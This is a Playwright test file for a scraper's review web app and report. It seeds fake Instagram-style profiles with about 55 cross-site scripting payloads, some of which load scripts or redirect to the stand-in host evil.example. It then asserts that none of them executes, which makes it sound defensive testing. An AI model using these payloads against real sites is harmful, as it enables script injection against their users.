# ruff: noqa: E501  # tables of words
"""Words that would run in a browser, in every slot that strangers write, through the page and the report in Chromium."""

from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import pytest
from playwright.sync_api import Browser, Page

from crawler.claims import with_claims
from storage.database import Database
from storage.facts import Comment, Contact, Edge, Fact, Highlight, Link, Post, Profile
from storage.landing import PageRecord, land_page
from tests.commands import nanoscout
from tests.review_server import Review, run_review

pytestmark = pytest.mark.needs_chromium

# Each would set window.hit, open a dialog or ask another host, in some place: text, attribute, address, script, style.
VECTORS = (
    "<script>window.hit=1</script>", "</script><script>window.hit=1</script>", "<ScRiPt>window.hit=1</sCrIpT>",
    "<script src=//evil.example/x.js></script>", "<img src=x onerror=window.hit=1>", "\"><img src=x onerror=window.hit=1>",
    "'><img src=x onerror='window.hit=1'>", "<img src=//evil.example/p.png>", "<svg onload=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>", "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=window.hit=1>", "<body onload=window.hit=1>",
    "<details open ontoggle=window.hit=1>", "<input autofocus onfocus=window.hit=1>", "<video><source onerror=window.hit=1>",
    "<iframe srcdoc='<script>parent.hit=1</script>'>", "<iframe src=javascript:parent.hit=1>", "<object data=javascript:hit=1>",
    "<embed src=//evil.example/x.swf>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<style>@import '//evil.example/x.css'</style>",
    "<form action=//evil.example/><button autofocus>x</button></form>", "javascript:window.hit=1", "JaVaScRiPt:window.hit=1",
    "java\tscript:window.hit=1", "\x01javascript:window.hit=1", "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)", "\" onmouseover=window.hit=1 autofocus onfocus=window.hit=1 x=\"", "' onfocus=window.hit=1 autofocus x='",
    "` onfocus=window.hit=1 `", "</title><script>window.hit=1</script>", "</textarea><script>window.hit=1</script>",
    "</style><script>window.hit=1</script>", "--><script>window.hit=1</script>", "]]><script>window.hit=1</script>",
    "<!--<img src=\"--><img src=x onerror=window.hit=1>", "<noscript><p title=\"</noscript><img src=x onerror=window.hit=1>\">",
    "{{constructor.constructor('window.hit=1')()}}", "${window.hit=1}", "{% raw %}{{7*7}}", "\\u003cscript>window.hit=1</script>",
    "+ADw-script+AD4-window.hit=1+ADw-/script+AD4-", "&lt;script&gt;window.hit=1&lt;/script&gt;", "&#60;script>window.hit=1</script>",
    "<a href=javascript:window.hit=1 autofocus>x</a>", "<x contenteditable onblur=window.hit=1>", "<marquee onstart=window.hit=1>",
    "%3Cscript%3Ewindow.hit=1%3C/script%3E", "x\"*/window.hit=1/*", "';window.hit=1;//", "\u2028window.hit=1//", "<svg/onload=window.hit=1//",
)  # fmt: skip
_SLOTS = 14  # a person has one vector a slot, the next person the next ones: each vector stands in each slot


def person(number: int) -> list[Fact]:
    """A profile, posts and ties that say vectors wherever they may say something."""
    said = [VECTORS[(number + slot) % len(VECTORS)] for slot in range(_SLOTS)]
    handle = f"hostile.{number}"
    common: dict[str, Any] = {"network": "instagram", "page": f"https://www.instagram.com/{handle}/"}
    post: dict[str, Any] = {
        **common,
        "author_handle": handle,
        "author_native_id": f"7{number}",
        "likes": 90,
        "comments": 4,
    }
    return [
        Profile(**common, handle=handle, native_id=f"7{number}", display_name=said[0], bio=f"ink {said[1]}", followers=3_000,
                following=300, posts_count=90, category=said[2], pronouns=said[3], avatar_url=said[4], is_private=False,
                links=[Link(url=said[5], title=said[6])]),
        *(Post(**post, native_id=f"9{number}{n}", url=f"https://www.instagram.com/p/C{number}x{n}/", text=f"ink {said[7]}",
               place=said[8], hashtags=[said[9]], mentions=[], alt_text=said[10], image_url=said[4]) for n in range(3)),
        Post(**post, native_id=f"9{number}9", url=said[5], text=said[10]),
        Comment(**common, native_id=f"8{number}", post=f"9{number}0", author_handle=f"hostile.{number + 1}", text=said[11]),
        Highlight(**common, handle=handle, native_id=f"6{number}", title=said[12]),
        Contact(**common, handle=handle, kind="email", value=f"{said[13]}@x.example", where=said[0], source_url=said[5]),
        Contact(**common, handle=handle, kind="phone", value=said[13], where="bio", source_url=said[4]),
        Edge(**common, source=f"hostile.{number + 1}", target=handle, kind="related"),
    ]  # fmt: skip


@pytest.fixture(scope="module")
def database(tmp_path_factory: pytest.TempPathFactory) -> Path:
    file = tmp_path_factory.mktemp("hostile") / "x.db"
    opened = Database(str(file))
    for number in range(len(VECTORS)):
        facts = person(number)
        with opened.write() as connection:
            record = PageRecord("instagram", facts[0].page, 1_800_000_000_000, 200, "0", "file", "facts")
            land_page(connection, 1, record, with_claims(facts))
    opened.close()
    return file


@pytest.fixture(scope="module")
def review(database: Path) -> Iterator[Review]:
    with run_review(database, "--by", VECTORS[0], "--campaign", VECTORS[5]) as running:
        yield running


@pytest.fixture
def tab(browser: Browser) -> Iterator[tuple[Page, list[str]]]:
    """A tab, and what went wrong in it: scripts' errors, what the page's policy had to forbid, dialogs, other hosts."""
    troubles: list[str] = []
    with closing(browser.new_context()) as context:
        page = context.new_page()
        page.on("pageerror", lambda error: troubles.append(str(error)))
        page.on("console", lambda message: troubles.append(message.text) if message.type == "error" else None)
        page.on("dialog", lambda dialog: troubles.append(dialog.message))
        page.on(
            "request", lambda asked: troubles.append(asked.url) if "evil" in str(urlsplit(asked.url).hostname) else None
        )
        page.on("popup", lambda opened: troubles.append(opened.url))
        yield page, troubles


@pytest.mark.long
def test_no_word_of_a_stranger_runs_in_the_page(tab: tuple[Page, list[str]], review: Review) -> None:
    page, troubles = tab
    page.goto(review.entrance)
    here = review.url.rstrip("/")
    addresses = [f"/who/instagram/hostile.{number}" for number in range(len(VECTORS))]
    addresses += ["/", "/?excluded=1", *(f"/?q={quote(words)}&place={quote(words)}" for words in VECTORS[::9])]
    addresses += ["/compare?" + "&".join(f"who=instagram/hostile.{number}" for number in range(start, start + 4))
                  for start in range(0, 52, 13)]  # fmt: skip
    seen = 0
    for address in addresses:
        page.goto(f"{here}{address}")
        assert page.evaluate("window.hit") is None, address
        assert page.url == f"{here}{address}" or "q=" in address, "something led away"
        assert page.locator("main").count() == 1, address
        seen += "window.hit" in page.content()
        assert troubles == [], address
    assert seen > len(VECTORS), "the words were not there at all"


@pytest.mark.long
def test_nor_in_the_report(tab: tuple[Page, list[str]], database: Path, tmp_path: Path) -> None:
    page, troubles = tab
    nanoscout("--database", database, "report", tmp_path / "report.html", "--limit", "60")
    page.goto((tmp_path / "report.html").as_uri())
    assert "window.hit" in page.content()
    assert page.evaluate("window.hit") is None
    assert troubles == []
    for width in (375, 320):  # a sum of prices stood out of a phone's window
        page.set_viewport_size({"width": width, "height": 800})
        assert page.evaluate("document.documentElement.scrollWidth") <= width
